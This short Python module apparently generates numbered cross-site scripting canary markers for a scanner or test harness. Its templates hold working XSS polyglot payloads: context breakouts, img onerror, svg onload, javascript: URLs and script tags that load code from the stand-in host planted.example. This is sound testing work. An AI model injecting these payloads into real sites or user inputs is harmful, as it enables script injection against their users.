"""Markers: text that runs `planted(N)`, or asks another host for N, wherever it is taken for anything but words."""

import re

HOST = "planted.example"  # no page may ever ask it for anything
CALL = re.compile(r"planted(?:\(|%28)(\d+)(?:\)|%29)")

# Breaks out of an address, a title, a textarea, a script, a style and of attributes in all three quotings.
_FULL = (
    "javascript:planted({n})//</title></textarea></script></style>\"'><img src=//{host}/{n} onerror=planted({n}) "
    "data-planted><script src=//{host}/{n}.js></script><script>planted({n})</script><svg/onload=planted({n})> "
    "{{{{planted({n})}}}} onfocus=planted({n}) autofocus "
)
_SHORT = '"><img src=//{host}/{n} onerror=planted({n})>'
_NAME = '"><img src=x onerror=planted({n})>'


class Marks:
    """Numbers the markers from 1 and knows the place of each."""

    def __init__(self) -> None:
        self.places: dict[int, str] = {}

    def full(self, place: str) -> str:
        """Return a marker for all ways of being taken for code at once, 350 letters long."""
        return _FULL.format(n=self._number(place), host=HOST)

    def short(self, place: str) -> str:
        """Return a marker that fits on a printed line."""
        return _SHORT.format(n=self._number(place), host=HOST)

    def name(self, place: str) -> str:
        """Return a marker without a slash, for names of files and for mailboxes."""
        return _NAME.format(n=self._number(place))

    def address(self, place: str) -> str:
        """Return a marker that is an address of a script."""
        return f"javascript:planted({self._number(place)})"

    def _number(self, place: str) -> int:
        number = len(self.places) + 1
        self.places[number] = place
        return number
